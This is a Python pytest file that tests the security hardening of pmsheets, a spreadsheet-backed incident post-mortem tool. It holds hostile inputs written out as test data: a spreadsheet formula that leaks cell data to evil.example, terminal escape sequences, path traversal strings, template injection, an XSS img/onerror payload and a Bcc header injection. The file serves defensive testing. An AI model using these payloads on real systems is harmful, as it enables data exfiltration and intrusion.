"""The security checks in one place: what the register, the config or a key file holds can never
become a formula, a terminal escape, an HTML tag, a mail header, a template expression, a path
out of the documents folder, or a leaked secret; certificates are verified by default; and
`doctor` warns about a key file others can read.
"""

from __future__ import annotations

import json
import re
import ssl
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from pmsheets import config as config_module
from pmsheets.core.overdue import find_overdue, overdue_report
from pmsheets.core.policy import Policy
from pmsheets.core.schema import FINDINGS_HEADERS, parse
from pmsheets.errors import ConfigError
from pmsheets.outputs.mail import Outgoing, build_message, tls_context
from pmsheets.outputs.report_render import render
from pmsheets.register.google_session import EndpointSession
from sheets_emulator import DEFAULT_EMAIL, SheetsEmulator
from tests.builders import AS_OF, action_row, incident_row, tables, write_workbook
from tests.cli_helpers import run

FORMULA = '=IMPORTXML("https://evil.example/?leak="&A1,"//a")'
INCIDENT_COLUMN = FINDINGS_HEADERS.index("Incident")
# Shown escaped on a terminal: C0 and C1 controls, DEL, and the bidi overrides that reorder what a line seems to say.
TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def xlsx_project(folder: Path, content: dict[str, object]) -> str:
    write_workbook(folder / "register.xlsx", content)
    config = folder / "pmsheets.yaml"
    config.write_text("register:\n  path: register.xlsx\ntimezone: UTC\n", encoding="utf-8")
    return str(config)


def google_project(emulator: SheetsEmulator, folder: Path, key: str, credentials: str = "credentials: key.json") -> str:
    config = folder / "pmsheets.yaml"
    config.write_text(
        f"register:\n  backend: google\n  spreadsheet: {key}\n  {credentials}\n  api_endpoint: {emulator.url}\n  retry_seconds: 0\n",
        encoding="utf-8",
    )
    return str(config)


def key_file(emulator: SheetsEmulator, folder: Path, mode: int = 0o600) -> Path:
    path = emulator.write_key_file(folder / "key.json")
    path.chmod(mode)
    return path


# --- formula injection ---------------------------------------------------------------------------


def test_sheets_findings_keep_a_formula_typed_as_an_id_as_text(emulator: SheetsEmulator, tmp_path: Path) -> None:
    key = emulator.create_spreadsheet("register", sheets=tables(incidents=[incident_row(title="no severity")]))
    emulator.store.values_update(key, "Incidents!A2", {"values": [[FORMULA]]}, input_option="RAW")
    key_file(emulator, tmp_path)
    run("--config", google_project(emulator, tmp_path, key), "validate", "--write", "--as-of", AS_OF.isoformat())
    grid = emulator.store.get(key, ranges=["Findings"], include_grid_data=True)["sheets"][0]["data"][0]["rowData"]
    assert grid[1]["values"][INCIDENT_COLUMN]["userEnteredValue"] == {"stringValue": FORMULA}


def test_xlsx_findings_keep_a_formula_typed_as_an_id_as_text(tmp_path: Path) -> None:
    config = xlsx_project(tmp_path, tables(incidents=[incident_row(title="no severity")]))
    workbook = openpyxl.load_workbook(tmp_path / "register.xlsx")
    workbook["Incidents"]["A2"].value = FORMULA
    workbook["Incidents"]["A2"].data_type = "s"
    workbook.save(tmp_path / "register.xlsx")
    run("--config", config, "validate", "--write", "--as-of", AS_OF.isoformat())
    cell = openpyxl.load_workbook(tmp_path / "register.xlsx")["Findings"].cell(row=2, column=INCIDENT_COLUMN + 1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")


# --- control characters, paths and markup in what the tool prints --------------------------------


def test_table_output_shows_control_characters_from_cells_escaped(tmp_path: Path) -> None:
    fake_line = "OPS\r\n  Actions!A9  info  all-good"
    action = action_row(id="ACT-1\x9b2J", incident_id="INC-1\u202e", type="Short-term", tracking_link=fake_line)
    config = xlsx_project(tmp_path, tables(actions=[action]))
    _, out, _ = run("--config", config, "validate", "--as-of", AS_OF.isoformat(), "--no-write")
    assert not TERMINAL_CONTROLS.search(out)
    assert "'OPS\\r\\n  Actions!A9  info  all-good' is neither a web link" in out
    assert not [line for line in out.splitlines() if line.startswith("  Actions!A9")]


def test_updated_line_shows_control_characters_from_the_sheet_title_escaped(emulator: SheetsEmulator, tmp_path: Path) -> None:
    key = emulator.create_spreadsheet("Register\x1b]0;pwned\x07\nfake second line", sheets=tables())
    key_file(emulator, tmp_path)
    code, out, _ = run("--config", google_project(emulator, tmp_path, key), "validate", "--write", "--as-of", AS_OF.isoformat())
    assert code == 0
    assert not TERMINAL_CONTROLS.search(out)
    assert "Register\\x1b]0;pwned\\x07\\nfake second line" in out.splitlines()[-1]


def test_path_and_markup_in_a_cell_are_only_quoted_text_in_messages(tmp_path: Path) -> None:
    config = xlsx_project(tmp_path, tables(incidents=[incident_row(id="INC-1", severity="P0", resolved_at="../../../etc/passwd")]))
    code, out, _ = run("--config", config, "validate", "--write", "--as-of", AS_OF.isoformat(), "--format", "json")
    messages = [finding["message"] for finding in json.loads(out)["findings"] if finding["rule"] == "value-invalid"]
    assert (code, messages) == (
        1,
        [
            "Resolved at: '../../../etc/passwd' is not a date and time. Use a date cell or text like 2026-11-20 14:05 or 2026-11-20T14:05+01:00."
        ],
    )
    assert sorted(path.name for path in tmp_path.iterdir()) == ["pmsheets.yaml", "register.xlsx"]


# --- post-mortem documents -----------------------------------------------------------------------


def test_generated_document_shows_template_syntax_from_cells_as_text(tmp_path: Path) -> None:
    title = "{{ 'pwn' ~ 'ed' }} {% include '/etc/hostname' %}"
    config = xlsx_project(tmp_path, tables(incidents=[incident_row(id="INC-1", title=title, severity="P0", summary="{{ config }}")]))
    code, _, err = run("--config", config, "generate", "--as-of", AS_OF.isoformat())
    [document] = (tmp_path / "docs" / "postmortems").iterdir()
    assert code == 0, err
    assert "pwned" not in document.read_text(encoding="utf-8")


def test_generated_file_names_stay_in_the_documents_folder(tmp_path: Path) -> None:
    hostile = incident_row(id="../../../../tmp/evil", title="..\\..\\windows\\system32", severity="P0")
    project = tmp_path / "project"
    project.mkdir()
    run("--config", xlsx_project(project, tables(incidents=[hostile])), "generate", "--as-of", AS_OF.isoformat())
    folders = sorted(str(path.relative_to(tmp_path).parent) for path in tmp_path.rglob("*") if path.is_file())
    assert folders == ["project", "project", "project/docs/postmortems"]


# --- e-mail --------------------------------------------------------------------------------------


def test_report_email_shows_register_markup_as_text() -> None:
    payload = '"><img src=x onerror=alert(1)>'
    register = parse(
        tables(
            incidents=[incident_row(id="INC-1", title=f"Outage {payload}", severity="P1", incident_owner=payload)],
            actions=[
                action_row(
                    id="ACT-1",
                    incident_id="INC-1",
                    action=payload,
                    type="Short-term",
                    owner=payload,
                    due_date=date(2026, 11, 1),
                    tracking_link="OPS-1",
                )
            ],
        )
    ).register
    html = render(overdue_report(find_overdue(register, as_of=AS_OF, policy=Policy()))).html
    assert "<img" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_subject_with_line_breaks_cannot_add_a_mail_header() -> None:
    outgoing = Outgoing(
        sender="pmsheets@example.com", to=("ops@example.com",), subject="Overdue\r\nBcc: spy@evil.example", text="t", html="<p>t</p>"
    )
    message = build_message(outgoing, now=datetime(2026, 11, 27, 9, 0, tzinfo=AS_OF.tzinfo))
    assert message["Bcc"] is None
    assert b"\nBcc:" not in bytes(message)


# --- secrets -------------------------------------------------------------------------------------

SECRET = "hunter2-Secret!"


@pytest.mark.parametrize(
    "yaml",
    [
        f"register:\n  password: {SECRET}\n",
        f"mail:\n  smtp:\n    host: smtp.example.com\n    password: {SECRET}\n",
        f"mail:\n  smtp:\n    host: smtp.example.com\n    password_env: {SECRET}\n",
        f'register:\n  backend: google\n  spreadsheet: k\n  credentials_env: \'{{"private_key": "{SECRET}"}}\'\n',
    ],
    ids=["secret-key", "smtp-password", "password-in-password-env", "key-json-in-credentials-env"],
)
def test_config_error_names_the_key_but_never_shows_a_secret(tmp_path: Path, yaml: str) -> None:
    config = tmp_path / "pmsheets.yaml"
    config.write_text(yaml, encoding="utf-8")
    with pytest.raises(ConfigError) as raised:
        config_module.load(config)
    assert "key '" in str(raised.value)
    assert SECRET not in str(raised.value)


@pytest.fixture
def key_in_environment(emulator: SheetsEmulator, monkeypatch: pytest.MonkeyPatch) -> str:
    """The service-account key's JSON in $PMSHEETS_TEST_KEY; returns a line of its private key's body."""
    info = emulator.service_account_info()
    monkeypatch.setenv("PMSHEETS_TEST_KEY", json.dumps(info))
    return info["private_key"].splitlines()[1]


def test_json_output_and_errors_never_show_the_private_key(emulator: SheetsEmulator, tmp_path: Path, key_in_environment: str) -> None:
    key = emulator.create_spreadsheet("register", sheets=tables())
    config = google_project(emulator, tmp_path, key, credentials="credentials_env: PMSHEETS_TEST_KEY")
    _, out, _ = run("--config", config, "validate", "--write", "--as-of", AS_OF.isoformat(), "--format", "json")
    emulator.store.unshare(key, DEFAULT_EMAIL)
    code, _, err = run("--config", config, "validate", "--write", "--as-of", AS_OF.isoformat(), "--format", "json")
    assert code == 2
    assert DEFAULT_EMAIL in err
    assert "PRIVATE KEY" not in out + err
    assert key_in_environment not in out + err


@pytest.mark.parametrize("log_format", ["text", "json"])
def test_worker_log_never_shows_the_private_key(emulator: SheetsEmulator, tmp_path: Path, key_in_environment: str, log_format: str) -> None:
    key = emulator.create_spreadsheet("register", sheets=tables())
    emulator.store.unshare(key, DEFAULT_EMAIL)
    config = google_project(emulator, tmp_path, key, credentials="credentials_env: PMSHEETS_TEST_KEY")
    code, out, err = run("--config", config, "run", "--as-of", AS_OF.isoformat(), "--log-format", log_format)
    assert code == 2
    assert DEFAULT_EMAIL in err
    assert "PRIVATE KEY" not in out + err
    assert key_in_environment not in out + err


@pytest.mark.parametrize(
    "content",
    [
        (
            '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nTOPSECRETKEYBODY\\n-----END PRIVATE KEY-----\\n", '
            '"client_email": "bot@example.iam.gserviceaccount.com", "token_uri": "https://oauth2.googleapis.com/token"}'
        ),
        '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nTOPSECRETKEYBODY',
    ],
    ids=["unloadable-key", "truncated-json"],
)
def test_bad_key_file_is_named_but_its_content_never_shown(tmp_path: Path, content: str) -> None:
    (tmp_path / "key.json").write_text(content, encoding="utf-8")
    (tmp_path / "pmsheets.yaml").write_text("register:\n  backend: google\n  spreadsheet: k\n  credentials: key.json\n", encoding="utf-8")
    code, out, err = run("--config", str(tmp_path / "pmsheets.yaml"), "validate")
    assert (code, out) == (2, "")
    assert str(tmp_path / "key.json") in err
    assert "TOPSECRETKEYBODY" not in err


# --- TLS -----------------------------------------------------------------------------------------


def test_smtp_verifies_the_certificate_and_host_name_by_default(tmp_path: Path) -> None:
    config = tmp_path / "pmsheets.yaml"
    config.write_text("mail:\n  transport: smtp\n  smtp:\n    host: smtp.example.com\n", encoding="utf-8")
    settings = config_module.load(config).mail.smtp
    assert settings is not None
    assert settings.security == "starttls"
    context = tls_context(settings)
    assert (context.verify_mode, context.check_hostname) == (ssl.CERT_REQUIRED, True)


def test_google_api_session_verifies_certificates(emulator: SheetsEmulator) -> None:
    from google.oauth2.service_account import Credentials

    session = EndpointSession(Credentials.from_service_account_info(emulator.service_account_info()))
    assert session.verify is True


# --- key files -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("mode", "warned"), [(0o600, False), (0o640, True), (0o604, True)], ids=["owner-only", "group", "others"])
def test_doctor_warns_about_a_key_file_other_users_can_read(emulator: SheetsEmulator, tmp_path: Path, mode: int, warned: bool) -> None:
    key = emulator.create_spreadsheet("register", sheets=tables())
    key_file(emulator, tmp_path, mode)
    _, out, _ = run("--config", google_project(emulator, tmp_path, key), "doctor")
    assert ("warn  credentials: key file" in out and "chmod 600" in out) == warned
